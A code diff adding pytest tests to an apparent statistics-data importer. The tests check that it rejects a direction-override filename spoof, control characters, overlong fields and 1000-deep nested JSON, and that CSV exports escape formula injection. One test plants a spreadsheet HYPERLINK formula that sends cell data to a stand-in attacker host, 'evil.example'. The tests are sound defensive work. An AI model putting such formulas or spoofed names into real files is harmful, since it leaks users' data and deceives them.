@@ -126,6 +126,22 @@ BAD = [
         "line 2: expected 8 fields, found 3 (is the file truncated?)",
     ),
     (
+        "direction override",
+        "SME_EMP_SHARE,AZE,2020,1,,,https://example.org/\u202eexe.txt,",
+        "line 2: source: The text contains an invisible direction-override character (U+202E)"
+        " at position 21; remove it.",
+    ),
+    (
+        "control character",
+        "SME_EMP_SHARE,AZE,2020,1,P\x1bC,,,",
+        "line 2: unit: The text contains an invisible control character (U+001B) at position 2",
+    ),
+    (
+        "overlong code",
+        "SME_EMP_SHARE," + "A" * 1001 + ",2020,1,,,,",
+        "line 2: ref_area: Use at most 1000 characters (this text has 1001).",
+    ),
+    (
         "duplicate",
         "SME_EMP_SHARE,AZE,2020,1,,,,\nSME_EMP_SHARE,AZE,2020,2,,,,",
         "line 3: SME_EMP_SHARE, AZE, 2020 already appears at line 2",
@@ -301,6 +317,15 @@ def test_sdmx_json_is_read_through_sdmx1(tmp_path, indicators, capsys):
 
 
 @pytest.mark.django_db(transaction=True)
+def test_sdmx_json_nested_1000_deep_is_refused_before_parsing(tmp_path, indicators, capsys):
+    deep = json.dumps({**SDMX_JSON, "meta": "x"}).replace('"x"', "[" * 1000 + "]" * 1000)
+    assert run(tmp_path, deep, "x.json") == 2
+    err = capsys.readouterr().err
+    assert "The JSON is nested more than 32 levels deep." in err and "recursion" not in err
+    assert not Observation.objects.exists() and not ImportBatch.objects.exists()
+
+
+@pytest.mark.django_db(transaction=True)
 def test_sdmx_errors_name_series_period_and_line(tmp_path, indicators, capsys):
     import_statistics_data(GOOD.encode(), name="x.csv")
     data = _export("sdmx-generic").decode().replace('value="43.7"', 'value="-43.7"').encode()
@@ -399,3 +424,19 @@ def test_import_failed_lists_every_error(indicators):
     with pytest.raises(ImportFailed) as exc:
         import_statistics_data(text.encode(), name="x.csv")
     assert len(exc.value.errors) == 3
+
+
+@pytest.mark.django_db(transaction=True)
+def test_exports_escape_formulas_and_the_import_reads_them_back(tmp_path, indicators, capsys):
+    assert run(tmp_path, GOOD) == 0
+    formula = '=HYPERLINK("http://evil.example/?"&A1)'
+    Observation.objects.filter(ref_area="OIC").update(note=formula)
+    Observation.objects.filter(ref_area="TUR").update(note="-cmd")
+    before = state()
+    data = _export("sdmx-csv").decode()
+    assert f'"\'{formula.replace(chr(34), chr(34) * 2)}"' in data and ",'-cmd" in data
+    assert "\n" + formula not in data and "," + formula not in data
+    capsys.readouterr()
+    assert run(tmp_path, data, "x.csv") == 0
+    assert "0 new, 0 revised, 5 unchanged" in capsys.readouterr().out
+    assert state() == before
